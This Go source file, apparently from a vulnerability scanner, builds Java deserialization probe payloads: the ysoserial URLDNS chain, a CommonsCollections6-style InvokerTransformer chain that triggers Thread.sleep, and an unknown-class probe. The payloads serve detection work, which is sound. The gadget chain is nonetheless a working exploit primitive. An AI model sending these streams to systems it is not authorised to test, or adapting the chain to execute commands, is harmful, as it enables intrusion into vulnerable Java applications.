@@ -0,0 +1,313 @@
+package payloads
+
+import (
+	"bytes"
+	"encoding/binary"
+	"math"
+)
+
+// Java object serialization stream constants (java.io.ObjectStreamConstants).
+const (
+	javaStreamMagic   = 0xACED
+	javaStreamVersion = 5
+
+	tcNull         = 0x70
+	tcReference    = 0x71
+	tcClassDesc    = 0x72
+	tcObject       = 0x73
+	tcString       = 0x74
+	tcArray        = 0x75
+	tcClass        = 0x76
+	tcBlockData    = 0x77
+	tcEndBlockData = 0x78
+
+	javaBaseWireHandle = 0x7E0000
+
+	scWriteMethod  = 0x01 // The class has a writeObject method writing data after its fields.
+	scSerializable = 0x02
+)
+
+// javaField is a serializable field of a class. Type is the type code ('I', 'J', 'F', 'L',
+// '[', ...) and, for objects and arrays, Signature the JVM type signature of the field.
+type javaField struct {
+	Type      byte
+	Name      string
+	Signature string
+}
+
+// javaClass is a class descriptor. Fields are listed the way ObjectOutputStream sorts them:
+// primitive fields first, then object fields, each by name.
+type javaClass struct {
+	Name   string
+	SUID   uint64
+	Flags  byte
+	Fields []javaField
+	Super  *javaClass
+}
+
+// Classes used by the gadget chains. Arrays are not checked against their serialVersionUID;
+// the values are the ones the JDK computes.
+var (
+	javaObjectClass = &javaClass{Name: "java.lang.Object"}
+	javaThreadClass = &javaClass{Name: "java.lang.Thread"}
+	javaLongType    = &javaClass{Name: "long"}
+	javaStringClass = &javaClass{Name: "java.lang.String", SUID: 0xA0F0A4387A3BB342, Flags: scSerializable}
+	javaNumberClass = &javaClass{Name: "java.lang.Number", SUID: 0x86AC951D0B94E08B, Flags: scSerializable}
+	javaLongClass   = &javaClass{Name: "java.lang.Long", SUID: 0x3B8BE490CC8F23DF, Flags: scSerializable,
+		Fields: []javaField{{Type: 'J', Name: "value"}}, Super: javaNumberClass}
+	javaObjectArrayClass = &javaClass{Name: "[Ljava.lang.Object;", SUID: 0x90CE589F1073296C, Flags: scSerializable}
+	javaClassArrayClass  = &javaClass{Name: "[Ljava.lang.Class;", SUID: 0xAB16D7AECBCD5A99, Flags: scSerializable}
+	javaHashMapClass     = &javaClass{Name: "java.util.HashMap", SUID: 0x0507DAC1C31660D1, Flags: scWriteMethod | scSerializable,
+		Fields: []javaField{{Type: 'F', Name: "loadFactor"}, {Type: 'I', Name: "threshold"}}}
+	javaURLClass = &javaClass{Name: "java.net.URL", SUID: 0x962537361AFCE472, Flags: scWriteMethod | scSerializable,
+		Fields: []javaField{
+			{Type: 'I', Name: "hashCode"},
+			{Type: 'I', Name: "port"},
+			{Type: 'L', Name: "authority", Signature: "Ljava/lang/String;"},
+			{Type: 'L', Name: "file", Signature: "Ljava/lang/String;"},
+			{Type: 'L', Name: "host", Signature: "Ljava/lang/String;"},
+			{Type: 'L', Name: "protocol", Signature: "Ljava/lang/String;"},
+			{Type: 'L', Name: "ref", Signature: "Ljava/lang/String;"},
+		}}
+
+	// Apache Commons Collections 3.x.
+	ccTiedMapEntryClass = &javaClass{Name: "org.apache.commons.collections.keyvalue.TiedMapEntry", SUID: 0x8AADD29B39C11FDB, Flags: scSerializable,
+		Fields: []javaField{{Type: 'L', Name: "key", Signature: "Ljava/lang/Object;"}, {Type: 'L', Name: "map", Signature: "Ljava/util/Map;"}}}
+	ccLazyMapClass = &javaClass{Name: "org.apache.commons.collections.map.LazyMap", SUID: 0x6EE594829E791094, Flags: scWriteMethod | scSerializable,
+		Fields: []javaField{{Type: 'L', Name: "factory", Signature: "Lorg/apache/commons/collections/Transformer;"}}}
+	ccChainedTransformerClass = &javaClass{Name: "org.apache.commons.collections.functors.ChainedTransformer", SUID: 0x30C797EC287A9704, Flags: scSerializable,
+		Fields: []javaField{{Type: '[', Name: "iTransformers", Signature: "[Lorg/apache/commons/collections/Transformer;"}}}
+	ccTransformerArrayClass    = &javaClass{Name: "[Lorg.apache.commons.collections.Transformer;", SUID: 0xBD562AF1D8341899, Flags: scSerializable}
+	ccConstantTransformerClass = &javaClass{Name: "org.apache.commons.collections.functors.ConstantTransformer", SUID: 0x587690114102B194, Flags: scSerializable,
+		Fields: []javaField{{Type: 'L', Name: "iConstant", Signature: "Ljava/lang/Object;"}}}
+	ccInvokerTransformerClass = &javaClass{Name: "org.apache.commons.collections.functors.InvokerTransformer", SUID: 0x87E8FF6B7B7CCE38, Flags: scSerializable,
+		Fields: []javaField{
+			{Type: '[', Name: "iArgs", Signature: "[Ljava/lang/Object;"},
+			{Type: 'L', Name: "iMethodName", Signature: "Ljava/lang/String;"},
+			{Type: '[', Name: "iParamTypes", Signature: "[Ljava/lang/Class;"},
+		}}
+)
+
+// javaStream writes a Java object serialization stream, the format of
+// java.io.ObjectOutputStream. Class descriptors and field type signatures are written once and
+// referenced by handle afterwards, as ObjectOutputStream does.
+type javaStream struct {
+	buf        bytes.Buffer
+	nextHandle uint32
+	classes    map[string]uint32 // Class name -> handle of its descriptor.
+	signatures map[string]uint32 // Field type signature -> handle of its string.
+}
+
+// newJavaStream starts a stream with its header.
+func newJavaStream() *javaStream {
+	s := &javaStream{nextHandle: javaBaseWireHandle, classes: make(map[string]uint32), signatures: make(map[string]uint32)}
+	s.u16(javaStreamMagic)
+	s.u16(javaStreamVersion)
+	return s
+}
+
+func (s *javaStream) u8(v byte)    { s.buf.WriteByte(v) }
+func (s *javaStream) u16(v uint16) { binary.Write(&s.buf, binary.BigEndian, v) }
+func (s *javaStream) u32(v uint32) { binary.Write(&s.buf, binary.BigEndian, v) }
+func (s *javaStream) u64(v uint64) { binary.Write(&s.buf, binary.BigEndian, v) }
+
+// utf writes a string in the modified UTF-8 of DataOutput.writeUTF; the strings of the gadgets
+// are ASCII.
+func (s *javaStream) utf(v string) {
+	s.u16(uint16(len(v)))
+	s.buf.WriteString(v)
+}
+
+// handle assigns the next handle to the object just started.
+func (s *javaStream) handle() uint32 {
+	h := s.nextHandle
+	s.nextHandle++
+	return h
+}
+
+func (s *javaStream) null() { s.u8(tcNull) }
+
+func (s *javaStream) reference(h uint32) {
+	s.u8(tcReference)
+	s.u32(h)
+}
+
+// str writes a new string object.
+func (s *javaStream) str(v string) {
+	s.u8(tcString)
+	s.handle()
+	s.utf(v)
+}
+
+// classDesc writes the descriptor of c and of its serializable superclasses, or a reference to
+// it when it was written before.
+func (s *javaStream) classDesc(c *javaClass) {
+	if c == nil {
+		s.null()
+		return
+	}
+	if h, ok := s.classes[c.Name]; ok {
+		s.reference(h)
+		return
+	}
+	s.u8(tcClassDesc)
+	s.classes[c.Name] = s.handle()
+	s.utf(c.Name)
+	s.u64(c.SUID)
+	s.u8(c.Flags)
+	s.u16(uint16(len(c.Fields)))
+	for _, f := range c.Fields {
+		s.u8(f.Type)
+		s.utf(f.Name)
+		if f.Type == 'L' || f.Type == '[' {
+			if h, ok := s.signatures[f.Signature]; ok {
+				s.reference(h)
+			} else {
+				s.u8(tcString)
+				s.signatures[f.Signature] = s.handle()
+				s.utf(f.Signature)
+			}
+		}
+	}
+	s.u8(tcEndBlockData) // No class annotations.
+	s.classDesc(c.Super)
+}
+
+// object writes an instance of c; values writes its field values, from the topmost
+// serializable superclass down, and the data of writeObject methods.
+func (s *javaStream) object(c *javaClass, values func()) {
+	s.u8(tcObject)
+	s.classDesc(c)
+	s.handle()
+	values()
+}
+
+// class writes the java.lang.Class object of c.
+func (s *javaStream) class(c *javaClass) {
+	s.u8(tcClass)
+	s.classDesc(c)
+	s.handle()
+}
+
+// array writes an array of class c with the elements written by the functions.
+func (s *javaStream) array(c *javaClass, elements ...func()) {
+	s.u8(tcArray)
+	s.classDesc(c)
+	s.handle()
+	s.u32(uint32(len(elements)))
+	for _, element := range elements {
+		element()
+	}
+}
+
+// blockData writes the primitive data of a writeObject method.
+func (s *javaStream) blockData(data ...uint32) {
+	s.u8(tcBlockData)
+	s.u8(byte(4 * len(data)))
+	for _, v := range data {
+		s.u32(v)
+	}
+}
+
+// hashMap writes a java.util.HashMap whose entries are written by the functions, a key and a
+// value each.
+func (s *javaStream) hashMap(entries ...func()) {
+	s.object(javaHashMapClass, func() {
+		s.u32(math.Float32bits(0.75)) // loadFactor
+		s.u32(12)                     // threshold
+		s.blockData(16, uint32(len(entries)/2))
+		for _, entry := range entries {
+			entry()
+		}
+		s.u8(tcEndBlockData)
+	})
+}
+
+// javaLong writes a java.lang.Long.
+func (s *javaStream) javaLong(v int64) {
+	s.object(javaLongClass, func() { s.u64(uint64(v)) })
+}
+
+// invokerTransformer writes an InvokerTransformer calling method with the parameter types and
+// arguments written by the functions.
+func (s *javaStream) invokerTransformer(method string, paramTypes []func(), args []func()) {
+	s.object(ccInvokerTransformerClass, func() {
+		s.array(javaObjectArrayClass, args...)
+		s.str(method)
+		s.array(javaClassArrayClass, paramTypes...)
+	})
+}
+
+func (s *javaStream) bytes() []byte { return s.buf.Bytes() }
+
+// JavaURLDNSGadget returns the URLDNS chain of ysoserial: a HashMap keyed by a java.net.URL
+// whose cached hash code is reset, so that deserializing it resolves host. It needs no library
+// on the target.
+func JavaURLDNSGadget(host string) []byte {
+	s := newJavaStream()
+	s.hashMap(
+		func() {
+			s.object(javaURLClass, func() {
+				s.u32(math.MaxUint32) // hashCode: -1, computed again on deserialization.
+				s.u32(math.MaxUint32) // port: -1, the default of the protocol.
+				s.str(host)           // authority
+				s.str("")             // file
+				s.str(host)           // host
+				s.str("http")         // protocol
+				s.null()              // ref
+				s.u8(tcEndBlockData)  // End of the writeObject data of URL.
+			})
+		},
+		func() { s.str("http://" + host) },
+	)
+	return s.bytes()
+}
+
+// JavaCommonsCollectionsSleepGadget returns a CommonsCollections6-style chain calling
+// Thread.sleep(seconds*1000) when deserialized by an application with Apache Commons
+// Collections 3.1 to 3.2.1 on its class path: the HashMap hashes a TiedMapEntry, whose LazyMap
+// runs a ChainedTransformer of InvokerTransformers.
+func JavaCommonsCollectionsSleepGadget(seconds int) []byte {
+	s := newJavaStream()
+	transformers := func() {
+		s.object(ccChainedTransformerClass, func() {
+			s.array(ccTransformerArrayClass,
+				func() { s.object(ccConstantTransformerClass, func() { s.class(javaThreadClass) }) },
+				// Thread.class.getMethod("sleep", long.class)
+				func() {
+					s.invokerTransformer("getMethod",
+						[]func(){func() { s.class(javaStringClass) }, func() { s.class(javaClassArrayClass) }},
+						[]func(){func() { s.str("sleep") }, func() { s.array(javaClassArrayClass, func() { s.class(javaLongType) }) }})
+				},
+				// sleep.invoke(null, seconds*1000)
+				func() {
+					s.invokerTransformer("invoke",
+						[]func(){func() { s.class(javaObjectClass) }, func() { s.class(javaObjectArrayClass) }},
+						[]func(){s.null, func() { s.array(javaObjectArrayClass, func() { s.javaLong(int64(seconds) * 1000) }) }})
+				},
+			)
+		})
+	}
+	s.hashMap(
+		func() {
+			s.object(ccTiedMapEntryClass, func() {
+				s.str("dursgo") // key
+				s.object(ccLazyMapClass, func() {
+					transformers() // factory
+					s.hashMap()    // The decorated map, empty so that the factory is called.
+					s.u8(tcEndBlockData)
+				})
+			})
+		},
+		func() { s.str("dursgo") },
+	)
+	return s.bytes()
+}
+
+// JavaUnknownClassObject returns a stream holding an instance of a class that does not exist,
+// which ObjectInputStream rejects with a ClassNotFoundException naming it.
+func JavaUnknownClassObject() []byte {
+	s := newJavaStream()
+	s.object(&javaClass{Name: DeserializationUnknownClass, SUID: 1, Flags: scSerializable}, func() {})
+	return s.bytes()
+}